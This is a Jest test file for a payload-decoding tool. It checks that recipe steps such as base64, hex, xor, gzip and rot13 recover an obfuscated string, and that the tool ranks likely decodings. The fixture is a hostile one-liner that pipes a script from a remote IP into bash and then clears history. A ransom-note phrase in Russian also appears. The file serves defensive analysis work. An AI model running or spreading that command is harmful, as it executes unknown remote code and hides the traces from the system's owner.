import { gzipSync } from 'node:zlib';
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { encode, xor } from '../encoders.test-helper.js';
import { flat } from '../peel-many.js';
import { PEEL_LIMITS } from '../types.js';
import { parseRecipe, STEP_NAMES } from './recipe.js';
import { runRecipe } from './run.js';
import { tryAll } from './try.js';

const SHELL = 'curl -s http://198.51.100.7/x.sh | bash && rm -f /tmp/.cache && history -c';
const run = (value: string, recipe: string) => runRecipe(value, recipe, PEEL_LIMITS);
const result = (value: string, recipe: string) => flat(run(value, recipe).layers).at(-1)?.text;

describe('recipes', () => {
  it.each<[string, string, string]>([
    ['base64', 'from-base64', SHELL], ['base64url', 'from-base64', SHELL], ['base64 spaced', 'from-base64', SHELL], ['base32', 'from-base32', SHELL], ['base58', 'from-base58', SHELL],
    ['ascii85', 'from-ascii85', SHELL], ['z85', 'from-z85', `${SHELL}  `], ['hex', 'from-hex', SHELL], ['hex dashed', 'from-hex', SHELL], 
    ['xxd', 'from-hexdump', SHELL], ['decimal bare', 'from-decimal', SHELL], ['octal', 'from-octal', SHELL], ['binary', 'from-binary', SHELL], ['url', 'url-decode', SHELL], ['html', 'html-decode', SHELL],
    ['\\u', 'unescape', SHELL], ['quoted-printable', 'from-quoted-printable', SHELL], ['mime B', 'from-mime', SHELL], ['octal escapes', 'from-octal-escapes', SHELL],
    ['base64 > gzip', 'from-base64, gunzip', SHELL], ['base64 > zlib', 'from-base64 | inflate', SHELL], ['base64 > deflate', 'from-base64, raw-inflate', SHELL], ['hex > zip', 'from-hex, unzip', SHELL],
    ['hex > zip', 'from-hex, unzip payload.bin', SHELL], ['hex > tar', 'from-hex, untar dir/payload.bin', SHELL], ['base64 > utf-16le', 'from-base64, utf-16le', SHELL], ['base64 > utf-16be', 'from-base64, utf-16be', SHELL],
    ['rot13', 'rot13', SHELL], ['rot13', 'rot 13', SHELL], ['rot47', 'rot47', SHELL], ['reversed', 'reverse', SHELL], ['base64 > xor 35', 'from-base64, xor 0x35', SHELL], ['base64 > xor 35', 'from-base64, xor 53', SHELL],
    ['base64 > xor 35', 'FROM-BASE64, xor', SHELL], ['base64 > xor 4', 'from-base64, xor 0xdeadbeef', SHELL],
  ])('%s by %s', (chain, recipe, text) => {
    expect(result(encode(chain, SHELL), recipe)).toBe(text);
  });

  it.each<[string, string, string]>([
    ['aGVsbG8', 'from-base64, add 1', 'ifmmp'], ['aWZtbXA=', 'from-base64, subtract 1', 'hello'], ['0x68 65 6c', 'from-hex, skip 1', 'el'], ['HeLLo', 'swap-case', 'hEllO'],
    ['h*e*l*l*o', 'remove "*"', 'hello'], ['d0caca d8de', 'from-hex, rotate-left 7', 'heelo'], ['2b262f2f2c', 'from-hex, xor "C"', 'hello'], ['cff0e8e2e5f2', 'from-hex, charset windows-1251', 'Привет'],
    ['c8859393966b40a6969993', 'from-hex, charset cp037', 'Hello, worl'], ['cafÃ©', 'undo-mojibake', 'café'],
  ])('%s with %s', (value, recipe, text) => {
    expect(result(value, recipe)).toBe(text);
  });

  it('gives a layer for each step, and where it came from', () => {
    const { layers, indicators } = run(encode('hex > xor 35', SHELL), 'from-hex, xor 0x35');
    expect(flat(layers).map(({ path, encoding, source }) => [path, encoding, source])).toEqual([
      ['1', 'from-hex', { offset: 0, length: 148, exact: true }], ['1.1', 'xor 0x35', { offset: 0, length: 148, exact: false }],
    ]);
    expect(indicators[0]).toMatchObject({ type: 'url', value: 'http://198.51.100.7/x.sh', layer: '1.1' });
  });

  it('says which step does not fit and keeps what was before it', () => {
    const { layers, notes } = run(Buffer.from('plain text').toString('base64'), 'from-base64, gunzip, rot13');
    expect(flat(layers).map(({ text }) => text)).toEqual(['plain text']);
    expect(notes).toEqual(['Step 2 (gunzip) cannot read what the steps before it give.']);
  });

  it('keeps the bounds', () => {
    const bomb = gzipSync(Buffer.alloc(30_000_000)).toString('base64');
    expect(run(bomb, 'from-base64, gunzip').notes[0]).toMatch(/decompression bomb/);
    expect(run('a'.repeat(200), 'rot13').notes).toEqual([]);
    expect(run('aGVsbG8=', 'from-base64, xor').notes).toEqual(['No key that was tried makes it readable (xor); give one: xor 0x35.']);
    expect(runRecipe('a'.repeat(200), 'rot13', { ...PEEL_LIMITS, inputLength: 100 }).notes).toEqual(['Only the first 100 characters were read.']);
    expect(runRecipe('aaaa', 'rot13, rot13', { ...PEEL_LIMITS, expired: () => true }).layers).toEqual([]);
  });

  it.each([
    ['from-bas64', 'Did you mean from-base64?'], ['', 'no steps'], ['gunzip now', 'takes nothing'], ['rot', 'needs a number'], ['rot x', 'is no number'], ['xor 300', 'is no key'],
    ['charset klingon', 'is no charset'], [Array(21).fill('rot13').join(','), 'at most 20'],
  ])('refuses %j', (recipe, message) => {
    expect(() => parseRecipe(recipe)).toThrow(expect.objectContaining({ message: expect.stringContaining(message) }));
  });

  it('never throws anything but a refusal, whatever the recipe and the value', () => {
    const step = fc.tuple(fc.constantFrom(...STEP_NAMES), fc.constantFrom('', ' 0x35', ' 7', ' shift_jis', ' "a,b"')).map((parts) => parts.join(''));
    fc.assert(fc.property(fc.oneof(fc.string({ unit: 'binary' }), fc.base64String()), fc.array(step, { maxLength: 5 }), (value, steps) => {
      try {
        run(value, steps.join(', '));
      } catch (error) {
        expect(error).toMatchObject({ data: { code: 'param.invalid' } });
      }
    }), { numRuns: 300, interruptAfterTimeLimit: 4_000 });
  });
});

describe('tryAll', () => {
  it.each<[string, string, string]>([
    ['a Caesar cipher', 'Frpp d qg frqw uro vhuyhu dw wkh xvxdo dgguhvv iru wkh sdvvzrug', 'rot 23'], ['base64', encode('base64', SHELL), 'from-base64'], ['hex', encode('hex', SHELL), 'from-hex'],
    ['xor in hex', xor(SHELL, [0x99]).toString('hex'), 'from-hex, xor 0x99'], ['xor in base64', xor(SHELL, [0x07]).toString('base64'), 'from-base64, xor 0x07'],
    ['rot13', encode('rot13', SHELL), 'rot13'], ['backwards', encode('reversed', SHELL), 'reverse'], ['Russian', encode('hex > windows-1251', 'Ваши файлы зашифрованы, напишите нам письмо'), 'from-hex, charset windows-1251'],
    ['a few pairs of digits', '41 42 43 44 45', 'from-hex'], ['a few octal codes', '150 145 171', 'from-octal'], ['a few escapes', '%68%65%79', 'url-decode'],
  ])('ranks %s first', (_name, value, recipe) => {
    const { layers } = tryAll(value, PEEL_LIMITS);
    expect(layers[0]?.encoding).toBe(recipe);
    expect(layers[0]?.note).toMatch(/^(?:it |its |what |all )/);
    expect(layers.length).toBeLessThanOrEqual(20);
  });

  it('answers whatever it is given', () => {
    fc.assert(fc.property(fc.oneof(fc.string(), fc.string({ unit: 'binary' }), fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes).toString('latin1')), fc.stringMatching(/^[0-9 ,x%\\-]{0,40}$/)), (value) => {
      expect(tryAll(value, PEEL_LIMITS).layers.length).toBeLessThanOrEqual(20);
    }), { numRuns: 150 });
    expect(tryAll('1 9 300 1114112', PEEL_LIMITS).layers.map(({ encoding }) => encoding)).not.toContain('from-octal');
  });

  it('is bounded', () => {
    expect(tryAll('A'.repeat(1_000_000), PEEL_LIMITS).notes).toEqual(['Only the first 65,536 characters were read.']);
    expect(tryAll('', PEEL_LIMITS).layers).toEqual([]);
    expect(tryAll('abc', { ...PEEL_LIMITS, expired: () => true }).notes).toEqual(['It stopped when its time was up.']);
  });
});
